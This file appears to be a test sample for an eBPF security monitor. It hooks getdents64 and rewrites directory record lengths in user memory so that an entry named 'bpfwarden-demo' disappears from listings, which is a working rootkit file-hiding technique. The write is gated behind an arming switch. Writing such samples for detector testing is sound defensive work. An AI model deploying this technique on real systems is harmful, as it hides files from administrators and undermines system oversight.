// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T01: getdents64 at entry saves the caller's buffer; a tail-call chain walks it at exit and joins two records into one.
#include "sample.h"

SAMPLE_SWITCH;
LICENSE;

struct dirent64 {
	u64 ino, off;
	u16 reclen;
	u8 type;
	char name[16];
} __attribute__((packed));

struct walk {
	u64 buf;
	u32 pos, prev;
};

HASH(bufs, u64, u64, 1024);
HASH(walks, u64, struct walk, 1024);
PROG_ARRAY(steps, 2);

SEC("tracepoint/syscalls/sys_enter_getdents64")
int dirent_enter(struct tp_enter *ctx)
{
	u64 id = bpf_get_current_pid_tgid(), buf = ctx->args[1];

	bpf_map_update_elem(&bufs, &id, &buf, BPF_ANY);
	return 0;
}

SEC("tracepoint/syscalls/sys_exit_getdents64")
int dirent_exit(struct tp_exit *ctx)
{
	u64 id = bpf_get_current_pid_tgid();
	u64 *buf = bpf_map_lookup_elem(&bufs, &id);
	struct walk *old = bpf_map_lookup_elem(&walks, &id), w = {};
	char name[16];
	u16 reclen = 0;

	if (!buf || ctx->ret <= 0)
		return 0;
	w.buf = *buf;
	if (old)
		w = *old;
	for (int i = 0; i < 16; i++) {
		struct dirent64 *d = (void *)(w.buf + w.pos);

		if (w.pos >= ctx->ret)
			break;
		bpf_probe_read_user(&reclen, sizeof(reclen), &d->reclen);
		bpf_probe_read_user_str(name, sizeof(name), d->name);
		if (IS(name, "bpfwarden-demo")) {
			bpf_map_update_elem(&walks, &id, &w, BPF_ANY);
			bpf_tail_call(ctx, &steps, 1);
		}
		w.prev = w.pos;
		w.pos += reclen;
	}
	if (w.pos < ctx->ret) {
		bpf_map_update_elem(&walks, &id, &w, BPF_ANY);
		bpf_tail_call(ctx, &steps, 0);
	}
	bpf_map_delete_elem(&bufs, &id);
	return 0;
}

SEC("tracepoint/syscalls/sys_exit_getdents64")
int dirent_patch(struct tp_exit *ctx)
{
	u64 id = bpf_get_current_pid_tgid();
	struct walk *w = bpf_map_lookup_elem(&walks, &id);
	struct dirent64 *prev, *cur;
	u16 a = 0, b = 0;

	if (!w)
		return 0;
	prev = (void *)(w->buf + w->prev);
	cur = (void *)(w->buf + w->pos);
	bpf_probe_read_user(&a, sizeof(a), &prev->reclen);
	bpf_probe_read_user(&b, sizeof(b), &cur->reclen);
	a += b;
	if (sample_armed)
		bpf_probe_write_user(&prev->reclen, &a, sizeof(a));
	bpf_map_delete_elem(&walks, &id);
	return 0;
}
